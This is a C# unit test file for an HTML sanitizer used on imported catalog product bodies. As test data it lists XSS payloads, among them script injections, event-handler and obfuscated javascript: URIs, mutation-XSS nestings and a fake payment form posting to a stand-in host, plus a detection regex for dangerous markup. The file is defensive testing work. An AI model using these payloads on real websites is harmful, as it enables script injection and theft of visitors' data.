using System.Text.RegularExpressions;
using Orion.Framework.Web;

namespace Orion.Tests.Features.Catalog.Import;

public sealed partial class HostileBodiesTests
{
    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<SCRIPT SRC=//evil.test/x.js></SCRIPT>")]
    [InlineData("<scr<script>ipt>alert(1)</scr</script>ipt>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<img src=\"https://evil.test/pixel.gif\">")]
    [InlineData("<p onclick=\"alert(1)\">x</p>")]
    [InlineData("<p style=\"background:url(https://evil.test)\">x</p>")]
    [InlineData("<p class=\"fixed inset-0\" id=\"cart\">x</p>")]
    [InlineData("<style>body{display:none}</style>")]
    [InlineData("<link rel=stylesheet href=//evil.test/x.css>")]
    [InlineData("<meta http-equiv=refresh content=\"0;url=//evil.test\">")]
    [InlineData("<base href=//evil.test>")]
    [InlineData("<iframe src=https://evil.test></iframe>")]
    [InlineData("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>")]
    [InlineData("<object data=evil.swf></object><embed src=evil.swf>")]
    [InlineData("<form action=https://evil.test><input name=card><button>Pay</button></form>")]
    [InlineData("<a href=\"javascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"JaVaScRiPt:alert(1)\">x</a>")]
    [InlineData("<a href=\" &#106;avascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"java\tscript:alert(1)\">x</a>")]
    [InlineData("<a href=\"data:text/html,<script>alert(1)</script>\">x</a>")]
    [InlineData("<a href=\"vbscript:x\">x</a>")]
    [InlineData("<a href=https://fine.test target=_blank ping=https://evil.test>x</a>")]
    [InlineData("<svg onload=alert(1)><circle/></svg>")]
    [InlineData("<svg><script>alert(1)</script></svg>")]
    [InlineData("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>")]
    [InlineData("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>")]
    [InlineData("<textarea></textarea><script>alert(1)</script>")]
    [InlineData("<p hx-get=\"/cart\" hx-trigger=load>x</p>")]
    [InlineData("<!--><script>alert(1)</script>-->")]
    [InlineData("<xmp><img src=x onerror=alert(1)></xmp>")]
    [InlineData("<table background=https://evil.test><tr><td>x</td></tr></table>")]
    [InlineData("<video src=https://evil.test autoplay onloadstart=alert(1)></video>")]
    [InlineData("<template><script>alert(1)</script></template>")]
    public void Nothing_in_a_body_runs_loads_or_restyles(string body)
    {
        var clean = RichText.From(body);
        Assert.DoesNotMatch(Dangerous(), clean);
        Assert.DoesNotMatch(Dangerous(), RichText.From(clean));
    }

    [Fact]
    public void The_markup_of_text_stays()
    {
        const string Body = "<h2>Care</h2><p>Wash <strong>cold</strong>, <em>dry</em> slowly.<br>Fine &amp; done.</p><ul><li>é</li></ul>";
        Assert.Equal(Body, RichText.From(Body));
        Assert.Contains("rel=\"nofollow noopener\"", RichText.From("<a href=\"https://fine.test/x\">x</a>"), StringComparison.Ordinal);
        Assert.Equal("<p>kept</p>", RichText.From("<section><p>kept</p></section>"));
    }

    [GeneratedRegex(@"<(?!/?(p|br|strong|em|h2|ul|li|a|table|tbody|tr|td|div|span)\b)|\son\w+=|style=|class=|\sid=|\shx-|src=|javascript:|vbscript:|data:|ping=|target=|background=", RegexOptions.IgnoreCase)]
    private static partial Regex Dangerous();
}
